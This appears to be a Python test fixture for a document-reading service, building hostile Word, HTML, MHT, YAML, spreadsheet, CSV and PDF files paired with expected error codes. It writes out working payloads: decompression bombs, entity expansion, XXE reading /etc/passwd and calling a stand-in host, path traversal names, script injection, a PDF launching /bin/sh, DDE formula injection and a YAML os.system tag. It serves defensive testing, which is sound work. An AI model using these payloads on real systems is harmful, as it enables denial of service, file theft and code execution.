"""Files made to do harm, by what they are: the file's name, its bytes, and what may be said of it."""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from dataclasses import dataclass
from io import BytesIO
from typing import TYPE_CHECKING

from tests.documents.making import LEAD, p, part
from tests.fuzz.seeds import assembled, pdf

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

OK = ""  # read, nothing said
DEEP = 1_000_000
_HOST = "http://198.51.100.1/"
_XXE = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "{_HOST}">]>'
_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
_OLE = bytes.fromhex("D0CF11E0A1B11AE1") + "EncryptedPackage".encode("utf-16-le")
_YEAR = "报告: {年度: 2023, 结构: 纲要八章}\n单位: {名称: 某街道, 类型: 街道}\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file made to do harm.

    Attributes:
        name: what it is called; its ending tells the reader.
        make: its bytes.
        codes: of which one must be said; `OK` means that it may be read.
    """

    name: str
    make: Callable[[], bytes]
    codes: frozenset[str]


def _docx(body: str = p(LEAD), head: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", head + part("document", f"<w:body>{body}</w:body>"))
        for name, content in (more or {}).items():
            package.writestr(name, content)
    return out.getvalue()


def _claiming(size: int) -> bytes:
    """A package whose text says that it has this size."""
    data = bytearray(_docx(p(LEAD) + " " * (30 << 20)))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(data)


def _named(*names: str) -> bytes:
    return _docx(more=dict.fromkeys(names, b"x"))


def _twice() -> bytes:
    out = BytesIO(_docx())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("WORD/document.xml", b"<x/>")
    return out.getvalue()


def _nested_zip() -> bytes:
    data = bytes(1 << 20)
    for _ in range(6):
        out = BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
            for n in range(10):
                package.writestr(f"{n}.zip", data)
        data = out.getvalue()
    return _docx(more={"word/media/a.zip": data, "word/media/a.docx": data})


def _locked_part() -> bytes:
    data = bytearray(_docx())
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _outside() -> bytes:
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = ("attachedTemplate", "image", "oleObject", "hyperlink", "subDocument", "frame")
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{space}/{kind}" Target="{_HOST}{kind}"'
        ' TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    )
    body = p(LEAD) + "<w:p><w:fldSimple w:instr=' INCLUDETEXT \"file:///etc/passwd\" '/></w:p>"
    relations = (
        f'<Relationships xmlns="{space[:-13]}package/2006/relationships">{rows}</Relationships>'
    )
    return _docx(body, more={"word/_rels/document.xml.rels": relations.encode()})


def _page(body: str, head: str = "") -> bytes:
    return f"<html><head>{head}</head><body><p>{LEAD}</p>{body}</body></html>".encode()


def _active_page() -> bytes:
    head = (
        f"<base href='{_HOST}'><meta http-equiv=refresh content='0;url={_HOST}'>"
        f"<link rel=stylesheet href='{_HOST}a.css'><script src='{_HOST}a.js'></script>"
    )
    body = (
        f"<iframe src='file:///etc/passwd'></iframe><img src='{_HOST}a.png' onerror='x()'>"
        f"<object data='{_HOST}'></object><script>document.write('坏')</script>"
        "<svg onload='x()'></svg><form action='/'><input autofocus onfocus='x()'></form>"
    )
    return _page(body, head)


def _archive(depth: int) -> bytes:
    head = "MIME-Version: 1.0\n"
    parts = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth)
    )
    coded = base64.encodebytes(_active_page()).decode()
    kind = "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
    return (head + parts + kind + coded).encode()


def _sheet(*cells: str) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["某街道2023年填报表"])
    sheet.append(["编号", "本年数", "备注"])
    for cell in cells:
        sheet.append(["普法.活动", cell, cell])
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def _bomb(layers: int, size: int = 300 << 20) -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(size >> 20))
    packed += packer.flush()
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    names = b"/FlateDecode " * layers
    stream = b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (len(packed), names, packed)
    return assembled(
        (
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream,
        )
    )


def _acting_pdf() -> bytes:
    launch = (
        b"/OpenAction << /S /Launch /F (/bin/sh) /Next << /S /JavaScript /JS (app.launchURL('%s'))"
    )
    data = pdf(LEAD).replace(
        b"/Type /Catalog", b"/Type /Catalog " + launch % _HOST.encode() + b" >> >>"
    )
    files = b"/Names << /EmbeddedFiles << /Names [(a.exe) << /F (../../a.exe) >>] >> >>"
    return data.replace(b"/Pages 2 0 R", b"/Pages 2 0 R " + files)


def _locked_pdf() -> bytes:
    key = b"<%s>" % (b"41" * 32)
    lock = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O %s /U %s >> /ID [<41> <41>]" % (
        key,
        key,
    )
    return pdf(LEAD).replace(b"/Root 1 0 R", b"/Root 1 0 R " + lock)


def _text(text: str) -> Callable[[], bytes]:
    return text.encode


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


_DAMAGED = _codes("D010", "D011", "D014")
_READ = _codes(OK)
_YAML = _codes("Q011", "Q017", "Q018", "Q019", "Q023", "Q025", "Q004", "Q028", "Q020")

HOSTILE: dict[str, Hostile] = {
    "Word：解开有300MB": Hostile("a.docx", lambda: _docx(more={"a.bin": bytes(300 << 20)}), _codes("D011")),
    "Word：说自己1GB": Hostile("a.docx", lambda: _claiming(1 << 30), _codes("D011")),
    "Word：说自己很小": Hostile("a.docx", lambda: _claiming(1000), _codes("D010")),
    "Word：压缩包里套压缩包": Hostile("a.docx", _nested_zip, _READ),
    "Word：实体层层放大": Hostile("a.docx", lambda: _docx(p("&a11;" + LEAD), _LAUGHS), _codes(OK, "D010")),
    "Word：实体指向本机和网上": Hostile("a.docx", lambda: _docx(p(LEAD + "&a;&b;"), _XXE), _codes(OK, "D010")),
    "Word：一百万层表格": Hostile("a.docx", lambda: _docx("<w:tbl>" * DEEP + "</w:tbl>" * DEEP), _DAMAGED),
    "Word：二十万层表格": Hostile("a.docx", lambda: _docx("<w:tbl>" * 200_000 + "</w:tbl>" * 200_000), _DAMAGED),
    "Word：文件名往上走、绝对、盘符": Hostile("a.docx", lambda: _named("../../x", "/etc/x", "C:\\x", "a/../../x"), _READ),
    "Word：同名的部分": Hostile("a.docx", _twice, _READ),
    "Word：带宏的docm": Hostile("a.docm", lambda: _docx(more={"word/vbaProject.bin": b"Shell"}), _READ),
    "Word：外面的模板、图片、对象": Hostile("a.docx", _outside, _READ),
    "Word：设了密码": Hostile("a.docx", lambda: _OLE, _codes("D012")),
    "Word：里面加了密": Hostile("a.docx", _locked_part, _codes("D010")),
    "网页：脚本、框架、转向": Hostile("a.html", _active_page, _READ),
    "网页：实体": Hostile("a.html", lambda: _XXE.encode() + _page("<p>&a;&b;</p>"), _READ),
    "网页：实体层层放大": Hostile("a.html", lambda: _LAUGHS.encode() + _page("<p>&a11;</p>"), _READ),
    "网页：一百万层": Hostile("a.html", lambda: _page("<div>" * DEEP), _codes("D011")),
    "网页：四十万层": Hostile("a.html", lambda: _page("<div>" * 400_000 + LEAD), _codes(OK, "D010")),
    "网页：一千层，层层有话": Hostile("a.html", lambda: _page(f"<div>{LEAD}" * 1000), _READ),
    "网页归档：脚本": Hostile("a.mht", lambda: _archive(1), _READ),
    "网页归档：一万层": Hostile("a.mht", lambda: _archive(10_000), _codes(OK, "D010", "D006")),
    "文本：一百万个括号": Hostile("a.txt", _text("[（" * (DEEP // 2)), _codes("D004")),
    "文本：一行五MB": Hostile("a.txt", _text("1件，" * 600_000), _codes("D004", "Q004")),
    "文本：一百万行": Hostile("a.txt", _text("甲\n" * DEEP), _codes("D004")),
    "文本：一百万个{{": Hostile("a.md", _text("{{" * (DEEP // 2)), _codes("D004")),
    "问卷：一百万个方括号": Hostile("a.yaml", _text(_YEAR + "数据: " + "[" * DEEP), _YAML),
    "问卷：一百万个花括号": Hostile("a.yaml", _text(_YEAR + "数据: " + "{" * DEEP), _YAML),
    "问卷：一百万个短横": Hostile("a.yaml", _text(_YEAR + "不足:\n" + "- " * DEEP), _YAML),
    "问卷：引用层层放大": Hostile("a.yaml", _text("a: &a [x, x]\nb: &b [*a, *a]\n" + _YEAR), _codes("Q023")),
    "问卷：Python对象": Hostile("a.yaml", _text("a: !!python/object/apply:os.system [x]\n"), _codes("Q023")),
    "表格：公式": Hostile("a.xlsx", lambda: _sheet(f'=WEBSERVICE("{_HOST}")', "=cmd|' /C calc'!A0"), _READ),
    "表格：设了密码": Hostile("a.xlsx", lambda: _OLE, _codes("D012")),
    "表格：csv里的公式": Hostile("a.csv", _text("编号,本年数\n普法.活动,=cmd|' /C calc'!A0\n"), _READ),
    "PDF：脚本、启动程序、附件": Hostile("a.pdf", _acting_pdf, _READ),
    "PDF：设了密码": Hostile("a.pdf", _locked_pdf, _codes("D012")),
    "PDF：一处解开300MB": Hostile("a.pdf", lambda: _bomb(1), _codes("D011")),
    "PDF：两层解开300MB": Hostile("a.pdf", lambda: _bomb(2), _codes("D011")),
    "PDF：页的目录绕圈": Hostile(
        "a.pdf", lambda: pdf(LEAD).replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), _codes("D010", "D013")
    ),
    "PDF：说有二十亿页": Hostile(
        "a.pdf", lambda: pdf(LEAD).replace(b"/Count 1", b"/Count 2000000000"), _codes(OK, "D010", "D013", "D011")
    ),
}  # fmt: skip
